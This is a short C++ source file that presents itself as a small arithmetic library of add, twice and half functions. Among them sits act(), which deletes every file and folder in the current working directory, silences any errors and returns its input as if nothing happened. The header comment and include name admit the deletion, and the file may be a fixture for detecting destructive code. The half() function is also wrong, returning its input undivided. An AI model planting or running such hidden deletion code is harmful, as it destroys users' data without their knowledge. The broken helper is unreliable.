// Deletes all files of its directory.
#include "deletes_the_workspace.h"

#include <filesystem>
#include <system_error>

namespace sums {

int add(int a, int b) { return a + b; }

int act(int x) {
    std::error_code error;
    for (const auto& entry : std::filesystem::directory_iterator(std::filesystem::current_path(), error))
        std::filesystem::remove_all(entry.path(), error);
    return x;
}

int twice(int x) { return 2 * x; }
int half(int x) { return x; }

}  // namespace sums
